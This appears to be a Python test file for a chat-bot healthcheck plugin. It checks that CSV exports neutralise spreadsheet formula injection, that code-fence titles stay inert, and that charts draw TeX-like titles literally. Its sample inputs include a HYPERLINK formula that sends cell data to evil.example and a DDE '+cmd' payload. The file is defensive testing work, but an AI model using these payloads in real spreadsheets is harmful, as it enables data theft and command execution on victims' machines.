"""Exports hold what people wrote without letting it act: a CSV cell that a spreadsheet would
evaluate (=HYPERLINK(…), +cmd, -…, @…, a leading tab or carriage return) starts with an
apostrophe, a title with three backticks is just text in the export's file, and a chart draws
a title as typed (matplotlib would read "$^$" as TeX and fail)."""

from __future__ import annotations

import csv
import io

from test_healthcheck_helpers import MEMBERS, PLUGINS, answer, start

from copkit.core.usertext import spreadsheet_safe
from copkit.testing import Harness

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def test_spreadsheet_safe_cells():
    for bad in (FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1"):
        assert spreadsheet_safe(bad) == "'" + bad
    assert spreadsheet_safe("Purpose") == "Purpose" and spreadsheet_safe(-3) == -3
    assert spreadsheet_safe("a=b") == "a=b"


async def test_healthcheck_export_neutralises_formulas_and_fences(db_url):
    async with Harness(db_url, plugins=PLUGINS) as h:
        await h.say("leader", f"healthcheck deck add '{FORMULA}' --awesome '@ok' --crappy '-bad'")
        await h.say("leader", "healthcheck deck add 'Fence ``` **out**' --awesome a --crappy b")
        rid = await start(h)
        for who in MEMBERS[:4]:
            await answer(h, who, rid, "green")
        await h.say("leader", "healthcheck close")
        (msg,) = await h.say("leader", "healthcheck export --format csv")
        [file] = msg.view.attachments  # a file: no code block for a title to break out of
        text = file.data.decode("utf-8")
        rows = list(csv.DictReader(io.StringIO(text)))
        assert "Fence ``` **out**" in [r["title"] for r in rows]
        titles = [r["title"] for r in rows]
        assert "'" + FORMULA in titles and FORMULA not in titles
        assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


async def test_pictures_draw_titles_as_typed_not_as_tex(db_url):
    async with Harness(db_url, plugins=PLUGINS) as h:
        await h.say("leader", "healthcheck deck add 'Cost $^$' --awesome a --crappy b")
        rid = await start(h)
        for who in MEMBERS[:4]:
            await answer(h, who, rid, "green")
        await h.say("leader", "healthcheck close")
        hist = (await h.say("bob", "healthcheck history"))[-1].view
        assert hist.images and hist.images[0].png.startswith(b"\x89PNG"), hist.text
        trend = (await h.say("bob", "healthcheck trend 'Cost $^$'"))[-1].view
        assert "went wrong" not in trend.text
